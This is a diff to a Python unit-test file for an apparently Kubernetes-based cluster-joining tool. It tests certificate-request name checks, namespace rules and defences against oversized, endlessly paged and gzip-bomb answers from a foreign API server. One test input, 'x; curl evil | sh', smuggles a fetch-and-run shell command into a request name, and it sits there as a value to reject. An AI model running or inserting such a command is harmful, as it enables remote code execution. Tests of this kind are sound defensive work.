@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import dataclasses
+import gzip
 import json
 from typing import Any
 
@@ -29,11 +30,13 @@ from hostler.join.spoke import (
     spoke_of,
 )
 from hostler.kube.client import Client
-from hostler.kube.errors import Unreachable
+from hostler.kube.errors import TooLarge
+from hostler.kube.foreign import describe_failure
 from hostler.kube.foreign_watch import ForeignWatch, TooMuch
+from hostler.kube.kept import Shares
 from hostler.kube.kinds import NODE, Kind
 from hostler.kube.metrics import Metrics
-from hostler.kube.records import Node
+from hostler.kube.records import Node, Object
 from hostler.settings.join import SPOKES
 from tests.unit.answering import answering
 from tests.unit.joining import NOW, POLICY, client, node
@@ -172,6 +175,25 @@ def test_agents_of_another_namespace_count_only_when_listed() -> None:
     assert invitations_for(SPOKE, found, listed) == {}, "a Cluster of the same name is another cluster"
 
 
+def agent(namespace: str, host: str, cluster: str = "one") -> tuple[Kind, Any]:
+    bound = {"name": cluster, "namespace": "a"}
+    body = {
+        "metadata": {"name": host, "namespace": namespace, "creationTimestamp": iso(NOW - 700)},
+        "spec": {"approved": True, "hostname": host, "clusterDeploymentName": bound},
+        "status": {"debugInfo": {"state": "installing"}, "progress": {"stageStartTime": iso(NOW - 600)}},
+    }
+    return AGENT, msgspec.convert(body, SOURCES[AGENT])
+
+
+def test_a_listed_namespace_does_not_shut_out_the_spokes_own() -> None:
+    listed = dataclasses.replace(POLICY, inventories={AGENT.resource: frozenset({"pool"})})
+    found = [agent("a", "own"), agent("pool", "pooled"), agent("b", "stray"), agent("pool", "other", "two")]
+    made = invitations_for(DEPLOYED, found, listed)
+    assert {name for name, those in made.items() if any(one.here(frozenset({"a/one"})) for one in those)} == {
+        "own", "pooled",
+    }  # fmt: skip
+
+
 def test_a_listed_namespace_opens_no_other_kind() -> None:
     """A host elsewhere that says this cluster's machine consumes it is another tenant's word."""
     machine = {"metadata": {"name": "m-1", "namespace": "a", "labels": {CLUSTER_NAME: "one"}}}
@@ -196,18 +218,32 @@ def test_a_request_with_a_name_no_api_server_takes_is_left_out() -> None:
     assert pending_of([client(csr="x; curl evil | sh"), client(csr="\x1b[2J"), client(csr="")]) == []
 
 
+@pytest.mark.parametrize("name", ["csr-7x2k4", "node-csr-3Jq_Yd-Zk0aB_", "node-csr-abc-", "a.b"])
+def test_a_request_named_as_kubelets_name_theirs_is_judged(name: str) -> None:
+    assert [one.metadata.name for one in pending_of([client(csr=name)])] == [name]
+
+
+def test_requests_of_either_name_contest_one_host() -> None:
+    requests = [client(csr="csr-7x2k4"), client(csr="node-csr-3Jq_Yd-Zk0aB_")]
+    known = facts_in(DEPLOYED, [agent("a", "worker-1")])
+    for alone in requests:
+        assert [one.act for one in decide(pending_of([alone]), known, POLICY, NOW)] == [Act.APPROVE]
+    assert [one.act for one in decide(pending_of(requests), known, POLICY, NOW)] == [Act.LEAVE, Act.LEAVE]
+
+
 # -- what another's API server may send
 
 
 def follow(answer: Any, **limits: int) -> ForeignWatch[SigningRequest]:
     """Follow requests at a server that answers so, for as long as it can be; the watch afterwards."""
-    known = {"most_bytes": 1 << 20, "most_objects": 100, **limits}
+    known: dict[str, Any] = {"most_bytes": 1 << 20, "most_objects": 100, **limits}
 
     async def run() -> ForeignWatch[SigningRequest]:
         async with answering(answer) as to:
             troubled = asyncio.Event()
             watch = ForeignWatch(
-                to, SIGNING_REQUEST, SigningRequest, metrics=Metrics(), troubled=troubled.set, where="t/c", **known
+                to, SIGNING_REQUEST, SigningRequest, metrics=Metrics(), troubled=troubled.set, where="t/c",
+                share=Shares(64 << 20).open(lambda: None), **known
             )  # fmt: skip
             running = asyncio.create_task(watch.run())
             waits = asyncio.create_task(troubled.wait())
@@ -267,10 +303,47 @@ def test_its_own_words_stay_in_the_log() -> None:
 def test_an_answer_larger_than_allowed_is_not_read() -> None:
     async def run() -> None:
         async with answering(sending(b"x" * 65536)) as to, Client(to.connection, largest=1 << 20) as bounded:
-            with pytest.raises(Unreachable, match="more than 1 MiB"):
+            with pytest.raises(TooLarge, match="more than 1 MiB"):
                 await bounded.list(NODE, type=Node)
 
     asyncio.run(run())
+
+
+@pytest.mark.parametrize(
+    ("padding", "largest", "why"),
+    [(10, 1 << 20, "200 pages"), (900_000, 1 << 20, "8 MiB in all its pages"), (2_000_000, 1 << 20, "1 MiB")],
+)
+def test_pages_without_an_end_are_not_followed(padding: int, largest: int, why: str) -> None:
+    asked: list[str] = []
+
+    async def answer(request: web.Request) -> web.Response:
+        asked.append(request.query["limit"])
+        item = {"metadata": {"name": f"n-{len(asked)}", "annotations": {"x": "x" * padding}}}
+        return web.json_response({"metadata": {"continue": f"c-{len(asked)}"}, "items": [item]})
+
+    async def run() -> str:
+        async with answering(answer) as to, Client(to.connection, largest=largest) as bounded:
+            with pytest.raises(TooLarge) as refused:
+                await asyncio.wait_for(bounded.list(NODE, type=Object), 60)
+        return describe_failure(refused.value)
+
+    assert asyncio.run(run()) == f"its answer is larger than {why}"
+    assert len(asked) <= 200
+    assert set(asked) == {"100"}
+
+
+def test_a_packed_answer_is_not_unpacked() -> None:
+    """A thousandth of its size comes over the wire, and one read would bring all of it into memory."""
+    packed = gzip.compress(json.dumps({"metadata": {}, "items": []}).encode() + b" " * (64 << 20))
+
+    async def answer(_: web.Request) -> web.Response:
+        return web.Response(body=packed, headers={"Content-Encoding": "gzip"})
+
+    async def run() -> int:
+        async with answering(answer) as to, Client(to.connection, largest=1 << 20) as bounded:
+            return len(await bounded.request("GET", "/api/v1/nodes"))
+
+    assert asyncio.run(run()) == len(packed)
 
 
 def test_nothing_is_expected_of_a_kind_the_cluster_has_not() -> None:
